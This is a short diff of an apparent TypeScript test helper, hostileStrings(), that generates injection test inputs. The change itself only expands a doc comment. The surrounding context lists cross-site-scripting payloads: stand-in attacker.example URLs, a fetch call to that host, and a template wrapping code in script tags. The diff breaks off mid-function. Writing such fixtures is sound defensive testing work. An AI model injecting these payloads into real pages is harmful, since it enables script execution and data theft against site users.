@@ -1,7 +1,10 @@
 const URLS = ['https://attacker.example/x', '//attacker.example/x'];
 const CODE = ['attacked()', 'fetch("https://attacker.example/x")'];
 
-/** Returns strings that would do something if a page treated them as markup, a link or a style, and strings with unusual characters. */
+/**
+ * Returns strings that would do something if a page treated them as markup, a link or a style. Also returns strings that code often
+ * mishandles: names of properties of `Object.prototype`, escaped markup and unusual characters.
+ */
 export function hostileStrings(): string[] {
   const markup = CODE.flatMap((code) => [
     `<script>${code}</script>`,
